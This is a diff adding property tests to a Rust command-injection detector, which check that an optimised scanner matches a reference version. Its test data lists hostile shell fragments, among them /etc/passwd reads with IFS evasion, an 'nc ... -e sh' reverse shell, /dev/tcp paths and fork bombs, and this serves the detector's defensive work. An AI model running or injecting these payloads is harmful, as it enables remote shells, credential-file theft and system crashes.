@@ -1,6 +1,8 @@
 //! Command injection: payloads that score, tool words in prose that do not.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
+use proptest::prelude::*;
+
 use super::*;
 
 fn s(v: &str) -> u32 {
@@ -125,5 +127,286 @@ fn cmdi_dollar_signs_in_text_score_low() {
         "a$*b",
     ] {
         assert!(s(p) < 5, "{p} scored {}", s(p));
+    }
+}
+
+// === equivalence with the reference detector ===
+//
+// `scan`, `unquote` and `plain_may_match` take shortcuts (borrowed views,
+// first-byte literal searches, early returns when a trigger byte is absent);
+// these tests hold them to the code they replaced, kept in `reference`.
+
+/// Shell syntax, evasions and command words the detector keys on.
+const PIECES: &[&str] = &[
+    ";",
+    "|",
+    "||",
+    "&",
+    "&&",
+    "\n",
+    "\r",
+    "`",
+    "$(",
+    "(",
+    ")",
+    "{",
+    "}",
+    "<",
+    ">",
+    "'",
+    "\"",
+    "\\",
+    "/",
+    "?",
+    "*",
+    "%",
+    "~",
+    "=",
+    "@",
+    "#",
+    ",",
+    ".",
+    ":",
+    "-",
+    "--",
+    " ",
+    "  ",
+    "\t",
+    "\\n",
+    "\\r",
+    "$@",
+    "$*",
+    "$_",
+    "$1",
+    "${IFS}",
+    "$IFS",
+    "$IFS$9",
+    "${ifs}",
+    "${}",
+    "$()",
+    "``",
+    "<()",
+    ">()",
+    "$((",
+    "$[",
+    ">(",
+    "<(",
+    "~+",
+    "~-2",
+    "cat",
+    "id",
+    "ls",
+    "ping",
+    "sh",
+    "bash",
+    "whoami",
+    "WHOAMI",
+    "Cat",
+    "nc",
+    "-c",
+    "-e",
+    "/c",
+    "-lvp",
+    "time",
+    "nohup",
+    "env",
+    "sudo",
+    "alias",
+    "a=",
+    "x=1",
+    "python3.10",
+    "perl",
+    "ifconfig",
+    "ansible-vault",
+    "cmd.exe",
+    "/bin/",
+    "/etc/passwd",
+    "c:\\",
+    "./",
+    "..",
+    "http://",
+    "HTTPS:",
+    "10.0.0.1",
+    "4444",
+    "/dev/tcp/",
+    "/dev/udp/",
+    "/???/",
+    "c?t",
+    "<!--#exec",
+    "for ",
+    "FOR ",
+    " in (",
+    ") do ",
+    "%errorlevel%",
+    "%COMSPEC%",
+    "%systemroot%",
+    ".shell",
+    ".sh",
+    ".\"shell",
+    ".databases",
+    ".dump",
+    "{,ifconfig}",
+    "{id,}",
+    "c{a,oun}t",
+    ":(){ :|:& };:",
+    "f(){ f & f; }",
+    "!",
+    "@",
+    "type",
+    "find",
+    "dir",
+    "the",
+    "tea",
+    "é",
+    "ß",
+    "\u{0}",
+];
+
+fn shellish() -> impl Strategy<Value = Vec<u8>> {
+    let piece = prop_oneof![
+        8 => proptest::sample::select(PIECES).prop_map(|p| p.as_bytes().to_vec()),
+        2 => "[a-zA-Z0-9 ]{1,6}".prop_map(String::into_bytes),
+        1 => any::<u8>().prop_map(|b| vec![b]),
+        1 => any::<char>().prop_map(|c| c.to_string().into_bytes()),
+    ];
+    proptest::collection::vec(piece, 0..24).prop_map(|v| v.concat())
+}
+
+const FIELDS: [Field; 8] = [
+    Field::Path,
+    Field::Name,
+    Field::Value,
+    Field::UrlHeader,
+    Field::UserAgent,
+    Field::Header,
+    Field::Body,
+    Field::FileName,
+];
+
+/// Every signal `scan_fn` adds, or `None` when it panics.
+fn signals(scan_fn: fn(&[u8], Field, &mut Hits), v: &[u8], field: Field) -> Option<String> {
+    std::panic::catch_unwind(|| {
+        let mut h = Hits::default();
+        scan_fn(v, field, &mut h);
+        format!("{h:?}")
+    })
+    .ok()
+}
+
+fn assert_same_as_reference(v: &[u8]) {
+    for field in FIELDS {
+        assert_eq!(
+            signals(scan, v, field),
+            signals(reference::scan, v, field),
+            "{:?} {field:?}",
+            String::from_utf8_lossy(v)
+        );
+    }
+    assert_eq!(&*unquote(v), reference::unquote(v).as_slice());
+    assert_eq!(plain_may_match(v), reference::plain_may_match(v));
+}
+
+#[test]
+fn cmdi_examples_match_reference() {
+    for p in PIECES {
+        assert_same_as_reference(p.as_bytes());
+    }
+    for p in [
+        "gift wrap please, and include a note saying: happy birthday, love from all of us!",
+        "oat and honey biscuits (pack of 12)",
+        "margaret o'connell",
+        "m.oconnell@example.org",
+        "2026-11-22t10:41:07z",
+        "+353 1 555 0142",
+        "tea-earl-250",
+        ";cat${IFS}/etc/passwd",
+        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+        ";\n.shell nc 10.0.0.1 6666 -e sh",
+        "time sh -c whoami",
+        "for /f %i in (x) do echo",
+        "ECHO %ERRORLEVEL%",
+    ] {
+        assert_same_as_reference(p.as_bytes());
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(512))]
+
+    #[test]
+    fn cmdi_scan_matches_reference_on_shell_text(v in shellish()) {
+        assert_same_as_reference(&v);
+    }
+
+    #[test]
+    fn cmdi_scan_matches_reference_on_any_bytes(v in proptest::collection::vec(any::<u8>(), 0..64)) {
+        assert_same_as_reference(&v);
+    }
+}
+
+/// `commands::tiers` by a scan of every list, the way it was before the
+/// names were bucketed.
+fn tiers_by_scan(w: &[u8]) -> (bool, bool, bool) {
+    let mut t = (false, false, false);
+    for (list, tier) in commands::ALL_LISTS {
+        for name in list {
+            let n = name.as_bytes();
+            let hit = if tier == 2 && n.ends_with(b"-") {
+                w.len() > n.len() && w.starts_with(n)
+            } else {
+                n == w
+            };
+            if hit {
+                match tier {
+                    0 => t.0 = true,
+                    1 => t.1 = true,
+                    _ => t.2 = true,
+                }
+            }
+        }
+    }
+    t
+}
+
+#[test]
+fn cmdi_tiers_match_list_scan_for_every_name() {
+    for (list, _) in commands::ALL_LISTS {
+        for name in list {
+            for w in [
+                name.to_string(),
+                format!("{name}x"),
+                format!("{name}-x"),
+                name[..name.len() - 1].to_string(),
+            ] {
+                let w = w.as_bytes();
+                assert_eq!(commands::tiers(w), tiers_by_scan(w), "{name}");
+            }
+        }
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(512))]
+
+    #[test]
+    fn cmdi_tiers_match_list_scan(w in "[a-z$_{}0-9.-]{0,20}") {
+        prop_assert_eq!(commands::tiers(w.as_bytes()), tiers_by_scan(w.as_bytes()));
+    }
+}
+
+#[test]
+fn cmdi_is_wrapper_matches_list_in_any_case() {
+    for w in commands::WRAPPERS {
+        for v in [
+            w.to_string(),
+            w.to_ascii_uppercase(),
+            format!("{w}x"),
+            w[1..].to_string(),
+        ] {
+            let expect = commands::WRAPPERS
+                .iter()
+                .any(|x| x.as_bytes().eq_ignore_ascii_case(v.as_bytes()));
+            assert_eq!(commands::is_wrapper(v.as_bytes()), expect, "{v}");
+        }
     }
 }
